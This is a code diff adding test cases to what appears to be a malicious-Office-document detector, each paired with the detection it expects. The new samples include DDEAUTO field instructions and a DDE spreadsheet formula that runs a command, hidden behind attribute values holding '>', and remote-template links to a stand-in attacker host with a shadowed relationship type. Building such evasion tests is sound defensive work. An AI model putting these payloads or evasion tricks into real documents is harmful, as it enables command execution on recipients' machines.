@@ -553,6 +553,9 @@ function hiddenOfficeItems(): CorpusItem[] {
   });
   const strict = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
   const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+  /** An attribute in a namespace Office is told to ignore, its value holding `>`. */
+  const IGNORABLE =
+    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x="urn:x" mc:Ignorable="x" x:a=">"';
   const vba = '<Override PartName="/word/media/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
   return [
     item('docx-altchunk-rtf-ole', 'OOXML embedded object', () => altChunk('rtf'), 'OOXML_EMBEDDED_OBJECT'),
@@ -691,6 +694,51 @@ function hiddenOfficeItems(): CorpusItem[] {
           'word/document.xml': story('document', dde.replace('DDEAUTO', '+AEQ-DEAUTO')).replace('UTF-8', 'UTF-7'),
         }),
       'OOXML_UNREADABLE',
+    ),
+    // `>` inside an attribute value (well-formed XML) ends no tag; a look-alike attribute hides nothing.
+    item(
+      'docx-ddeauto-instrtext-after-gt-attribute',
+      'DDE',
+      () => documentWith(dde.replaceAll('<w:instrText ', `<w:instrText ${IGNORABLE} `)),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-ddeauto-fldsimple-instr-behind-look-alike',
+      'DDE',
+      () =>
+        documentWith(`<w:fldSimple ${IGNORABLE} x:b=' w:instr="PAGE"' w:instr=" DDEAUTO c:\\x.exe &quot;>&quot; "/>`),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-dde-formula-after-gt-attribute',
+      'DDE',
+      () =>
+        office('xlsx', {
+          'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ${IGNORABLE.replace(' x:a=">"', '')}><sheetData><row r="1"><c r="A1"><f x:a=">">cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-remote-template-target-holding-gt',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/_rels/settings.xml.rels': rels(
+            `<Relationship Id="rId1" Target="http://attacker.example/a>b.dotm" Type="${REL}/attachedTemplate" TargetMode="External"/>`,
+          ),
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-remote-template-type-shadowed',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/_rels/settings.xml.rels': rels(
+            `<Relationship xmlns:x="urn:x" Id="rId1" Type="${REL}/attachedTemplate" x:Type="${REL}/hyperlink" Target="http://attacker.example/t.dotm" TargetMode="External"/>`,
+          ),
+        }),
+      'OOXML_EXTERNAL',
     ),
     // Strict OOXML types and other spellings of what is refused.
     item(
